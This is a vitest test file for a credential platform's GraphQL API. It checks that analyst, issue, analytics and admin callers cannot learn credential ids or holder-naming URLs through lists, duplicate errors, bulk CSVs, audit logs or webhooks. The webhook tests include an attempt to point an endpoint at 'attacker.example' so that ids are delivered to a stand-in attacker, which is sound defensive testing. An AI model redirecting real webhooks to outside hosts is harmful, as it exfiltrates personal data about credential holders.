// A credential's id and its public URL count as personal data (README, "Using the API"): the public
// page and the published document at that URL name the holder, so whoever holds the id can learn the
// name. Callers without personal:read (role analyst; keys scoped issue, analytics or admin) therefore
// get no credential id or URL on any path, except the credential they issue themselves (they named the
// person). Each path that used to hand them out is tried here: the credential list, a duplicate's
// error, a bulk row's problem and the result CSV, the audit log's targets, and webhook endpoints, which
// would deliver credential and recipient ids to a URL of the caller's choosing.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  AcceptInvitationDocument,
  ActivateTemplateDocument,
  CreateBulkIssuanceDocument,
  CreateTemplateDocument,
  CreateWebhookEndpointDocument,
  InviteMemberDocument,
  IssueCredentialDocument,
  UpdateWebhookEndpointDocument,
} from "../../src/sdk/generated.js";
import { startTestApp, type TestApp } from "../helpers/app.js";
import { createKey, signUpTenant, uniqueEmail, type TestTenant } from "../helpers/factories.js";
import { tokenSentTo } from "../helpers/sealed.js";

let app: TestApp;
let t: TestTenant;
let templateId = "";
let credentialUuid = "";
let credentialId = "";
const holder = { email: "holder-links-4c1e@example.test", name: "Hortensia Linkfollow" };
const callers: Record<string, string> = {};

async function analystToken(): Promise<string> {
  const email = uniqueEmail("analyst");
  await t.owner.request(InviteMemberDocument, { input: { email, role: "analyst" } });
  const row = { token: await tokenSentTo(app, email) };
  const accepted = await app.client().request(AcceptInvitationDocument, { input: { token: row!.token, name: "Ana Lyst", password: "a long enough password" } });
  if (accepted.acceptInvitation.__typename !== "AcceptInvitationPayload") throw new Error(JSON.stringify(accepted));
  return accepted.acceptInvitation.token!;
}

const ask = (token: string, query: string) => app.post({ query }, { authorization: `Bearer ${token}` });
const codes = (json: { errors?: { extensions?: { code?: string } }[] }) => (json.errors ?? []).map((e) => e.extensions?.code);

beforeAll(async () => {
  app = await startTestApp();
  t = await signUpTenant(app, "Linked University");
  const template = await t.owner.request(CreateTemplateDocument, { kind: "BADGE", content: { name: "Linked", description: "d", criteriaNarrative: "c" } });
  if (template.createTemplate.__typename !== "Template") throw new Error(JSON.stringify(template));
  templateId = template.createTemplate.id;
  await t.owner.request(ActivateTemplateDocument, { id: templateId });
  const issued = await t.owner.request(IssueCredentialDocument, { input: { templateId, recipient: holder } });
  if (issued.issueCredential.__typename !== "Credential") throw new Error(JSON.stringify(issued));
  credentialId = issued.issueCredential.id;
  credentialUuid = issued.issueCredential.publicUrl.split("/").pop()!;
  callers.analyst = await analystToken();
  callers.analyticsKey = (await createKey(app, t.owner, ["analytics"])).secret;
  callers.issueKey = (await createKey(app, t.owner, ["issue"])).secret;
  callers.adminKey = (await createKey(app, t.owner, ["admin"])).secret;
}, 60_000);
afterAll(async () => app?.close());

describe("without personal:read", () => {
  it("the public URL really names the holder: that is why its id is personal", async () => {
    const res = await fetch(`${app.server.url}/issuers/${t.tenantId}/credentials/${credentialUuid}`);
    expect(await res.text()).toContain(holder.name);
  });

  for (const who of ["analyst", "analyticsKey", "issueKey", "adminKey"]) {
    it(`${who} cannot list the tenant's credentials, their ids or their URLs`, async () => {
      for (const leaf of ["id", "publicUrl", "status"]) {
        const { json } = await ask(callers[who]!, `{ tenant { credentials(first: 5) { totalCount edges { node { ${leaf} } } } } }`);
        expect(codes(json), leaf).toEqual(["FORBIDDEN"]);
        expect(JSON.stringify(json)).not.toContain(credentialUuid);
      }
    });
  }

  it("an issue key still gets back the credential it issues itself (it named the person)", async () => {
    const recipient = `{ email: ${JSON.stringify(uniqueEmail("own"))}, name: "Own Pick" }`;
    const { json } = await ask(callers.issueKey!, `mutation { issueCredential(input: { templateId: ${JSON.stringify(templateId)}, recipient: ${recipient} }) { __typename ... on Credential { id publicUrl } } }`);
    expect(json.errors).toBeUndefined();
    expect(json.data.issueCredential).toMatchObject({ __typename: "Credential", publicUrl: expect.stringContaining("/credentials/") });
  });

  it("an issue key told of a duplicate learns neither the existing credential's id nor its link", async () => {
    const { json } = await ask(
      callers.issueKey!,
      `mutation { issueCredential(input: { templateId: ${JSON.stringify(templateId)}, recipient: { email: ${JSON.stringify(holder.email)} } }) {
         __typename ... on Error { message } ... on DuplicateCredentialError { existingCredential { id publicUrl } } } }`,
    );
    expect(json.errors).toBeUndefined();
    expect(json.data.issueCredential).toMatchObject({ __typename: "DuplicateCredentialError", existingCredential: null });
    expect(json.data.issueCredential.message).toMatch(/^Already awarded to this person/);
    expect(JSON.stringify(json)).not.toContain(credentialUuid);
    const owner = await ask(t.token, `mutation { issueCredential(input: { templateId: ${JSON.stringify(templateId)}, recipient: { email: ${JSON.stringify(holder.email)} } }) {
         __typename ... on Error { message } ... on DuplicateCredentialError { existingCredential { id } } } }`);
    expect(owner.json.data.issueCredential.existingCredential.id).toBe(credentialId);
    expect(owner.json.data.issueCredential.message).toContain(credentialUuid);
  });

  it("an issue key reads a bulk job's duplicate row and result CSV without the credential's id or link", async () => {
    const bulk = await t.owner.request(CreateBulkIssuanceDocument, { input: { templateId, rows: [{ email: holder.email }] } });
    if (bulk.createBulkIssuance.__typename !== "BulkJob") throw new Error(JSON.stringify(bulk));
    const query = `{ node(id: ${JSON.stringify(bulk.createBulkIssuance.id)}) { ... on BulkJob { failures(first: 5) { edges { node { problems { message existingCredentialId } } } } } } }`;
    const asKey = await ask(callers.issueKey!, query);
    const problem = asKey.json.data.node.failures.edges[0].node.problems[0];
    expect(problem).toMatchObject({ existingCredentialId: null, message: expect.stringMatching(/^Already awarded to this person/) });
    expect(JSON.stringify(asKey.json)).not.toContain(credentialUuid);
    const asOwner = await ask(t.token, query);
    expect(asOwner.json.data.node.failures.edges[0].node.problems[0].existingCredentialId).toBe(credentialId);

    const url = bulk.createBulkIssuance.resultCsvUrl.replace(app.config.publicUrl, app.server.url);
    const csv = await (await fetch(url, { headers: { authorization: `Bearer ${callers.issueKey}` } })).text();
    expect(csv.split("\n")[0]).toBe("row,status,problems");
    expect(csv).toMatch(/^1,FAILED,"email: Already awarded to this person\. Revoke/m);
    expect(csv).not.toContain(credentialUuid);
    const full = await (await fetch(url, { headers: { authorization: `Bearer ${t.token}` } })).text();
    expect(full.split("\n")[0]).toBe("row,email,status,credential_id,credential_url,problems");
    expect(full).toContain(credentialUuid);
  });

  it("an admin key reads the audit log without the ids of credentials and recipients", async () => {
    const query = `{ tenant { auditLog(first: 50, filter: { action: "credential." }) { edges { node { action targetType targetId } } } } }`;
    const asKey = await ask(callers.adminKey!, query);
    const entries = asKey.json.data.tenant.auditLog.edges.map((e: { node: unknown }) => e.node);
    expect(entries.length).toBeGreaterThan(0);
    for (const entry of entries) expect(entry).toMatchObject({ targetType: "Credential", targetId: null });
    expect(JSON.stringify(asKey.json)).not.toContain(credentialUuid);
    const asOwner = await ask(t.token, query);
    expect(JSON.stringify(asOwner.json)).toContain(credentialUuid);
  });
});

describe("webhook endpoints deliver credential and recipient ids", () => {
  it("an admin key cannot create one, nor point an existing one elsewhere", async () => {
    const admin = await createKey(app, t.owner, ["admin"]);
    const created = await ask(admin.secret, `mutation { createWebhookEndpoint(input: { url: "https://attacker.example/hook", eventTypes: ["credential.issued"] }) { __typename } }`);
    expect(codes(created.json)).toEqual(["FORBIDDEN"]);
    const own = await t.owner.request(CreateWebhookEndpointDocument, { input: { url: "https://partner.example/hook", eventTypes: ["credential.issued"] } });
    if (own.createWebhookEndpoint.__typename !== "WebhookSecretPayload") throw new Error(JSON.stringify(own));
    const id = own.createWebhookEndpoint.endpoint.id;
    const moved = await ask(admin.secret, `mutation { updateWebhookEndpoint(id: ${JSON.stringify(id)}, input: { url: "https://attacker.example/hook" }) { __typename } }`);
    expect(codes(moved.json)).toEqual(["FORBIDDEN"]);
    const [row] = await app.db.admin`select url from webhook_endpoints where tenant_id = ${t.tenantId}`;
    expect(row!.url).toBe("https://partner.example/hook");
    // The owner, who holds personal:read, still can.
    const ok = await t.owner.request(UpdateWebhookEndpointDocument, { id, input: { url: "https://partner.example/other" } });
    expect(ok.updateWebhookEndpoint.__typename).toBe("WebhookEndpoint");
  });

  it("an admin key does not read what a partner answered (it may echo the payload)", async () => {
    // A real delivery was queued by the issuance above (the owner's endpoint subscribes to credential.issued);
    // its partner echoed the event back, as echo servers and some frameworks' error pages do.
    const issued = await t.owner.request(IssueCredentialDocument, { input: { templateId, recipient: { email: uniqueEmail("echo") } } });
    if (issued.issueCredential.__typename !== "Credential") throw new Error(JSON.stringify(issued));
    const echoed = issued.issueCredential.publicUrl.split("/").pop()!;
    const [delivery] = await app.db.admin`select tenant_id, id from webhook_deliveries where tenant_id = ${t.tenantId} and payload::text like ${"%" + echoed + "%"}`;
    await app.db.admin`insert into webhook_attempts (tenant_id, delivery_id, attempt, status_code, duration_ms, response_excerpt)
                       values (${delivery!.tenant_id}, ${delivery!.id}, 1, 400, 5, ${"bad event: " + echoed})`;
    const query = `{ tenant { webhookEndpoints(first: 5) { edges { node { deliveries(first: 50) { edges { node { attemptLog { statusCode responseExcerpt } } } } } } } } }`;
    const asKey = await ask(callers.adminKey!, query);
    expect(codes(asKey.json)).toContain("FORBIDDEN");
    expect(JSON.stringify(asKey.json)).not.toContain(echoed);
    const asOwner = await ask(t.token, query);
    expect(JSON.stringify(asOwner.json)).toContain(echoed);
  });
});
